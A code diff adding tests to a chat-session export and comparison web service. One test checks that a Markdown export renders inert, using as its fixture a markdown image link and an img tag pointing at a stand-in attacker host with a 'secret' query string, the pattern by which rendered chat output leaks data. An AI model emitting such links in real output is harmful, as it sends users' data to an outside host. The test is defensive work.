@@ -14,6 +14,7 @@ from sessions_app.actors import Role
 from sessions_app.models import Project, Session
 from tests.builders import a_message, a_session
 from tests.web.conftest import Visitor
+from tests.web.test_rendering_inert import loaded
 
 ROOT = "/api/v1"
 LINES = "application/x-ndjson"
@@ -185,6 +186,15 @@ class ADocument:
         assert "**bold** and `code`" in text
         assert '`````\n{\n  "a": "```' in text
 
+    def test_of_markdown_makes_no_viewer_load_anything(self, client, the_store):
+        image = "![x](https://evil.example/?secret)"
+        said = [f"```\n{image}", f"see {image} <img src=//evil>", image]
+        id = the_store.create(image, [{"role": "user", "content": text} for text in said]).id
+        _, content = export(client, session=str(id), format="markdown")
+        assert loaded("\n\n".join(said[1:]))
+        assert loaded(content.decode()) == []
+        assert "https://evil.example/?secret" in content.decode()
+
     def test_is_the_same_from_the_command(self, client, the_store, family, tmp_path):
         for format in ("markdown", "html"):
             _, content = export(client, session=str(family[0].id), lineage="true", format=format)
@@ -204,6 +214,41 @@ class ATranscript:
         assert [part["kind"] for part in first["shown"][1]["parts"]] == ["thinking", "text", "tool_call"]
         assert (first["next"], last["next"], last["message_count"]) == (3, None, 5)
         assert PICTURE not in json.dumps(last)
+
+
+class AComparison:
+    def test_tells_what_is_common_and_what_each_came_to(self, client, the_store):
+        begin = [{"role": "user", "content": "How much?"}, {"role": "assistant", "content": "Seven pears."}]
+        root = the_store.create("shop", [*begin, {"role": "user", "content": "Sure?"}])
+        fork = the_store.fork_at(root.id, 2)
+        call = {"role": "assistant", "tool_calls": [{"function": {"name": "read", "arguments": '{"path": "a.txt"}'}}]}
+        the_store.append(fork.id, [{"role": "user", "content": "And two?"}, call])
+        found = client.get(f"{ROOT}/sessions/{root.id}/compare/{fork.id}").json()
+
+        assert (found["shared"], found["shared_turns"], found["next"]) == (2, 1, None)
+        told = [(each["id"], each["own_messages"], each["tool_calls"], each["files"]) for each in found["sessions"]]
+        assert told == [(str(root.id), 1, 0, []), (str(fork.id), 2, 1, ["a.txt"])]
+        (turn,) = found["turns"]
+        assert turn["number"] == 2
+        assert [[cell and (cell["position"], cell["role"]) for cell in row] for row in turn["rows"]] == [
+            [(2, "You"), (2, "You")],
+            [None, (3, "Agent")],
+        ]
+        assert [cell["text"] for cell in turn["rows"][0]] == ["Sure?", "And two?"]
+
+    def test_comes_in_windows_of_turns(self, client, the_store):
+        root = the_store.create("shop", [{"role": "user", "content": str(number)} for number in range(20)])
+        fork = the_store.fork_at(root.id, 1)
+        first = client.get(f"{ROOT}/sessions/{root.id}/compare/{fork.id}").json()
+        last = client.get(f"{ROOT}/sessions/{root.id}/compare/{fork.id}", {"start": 16}).json()
+        assert [turn["number"] for turn in first["turns"]] == list(range(2, 10))
+        assert (first["next"], last["next"], last["turns"][-1]["number"]) == (8, None, 20)
+
+    def test_is_of_two_that_are_there(self, client, the_store, family):
+        the_store.delete(family[1].id)
+        for one, two in (family[:2], family[1::-1]):
+            refused = client.get(f"{ROOT}/sessions/{one.id}/compare/{two.id}")
+            assert (refused.status_code, refused.json()["error"]) == (404, "SessionNotFound")
 
 
 class ALineage:
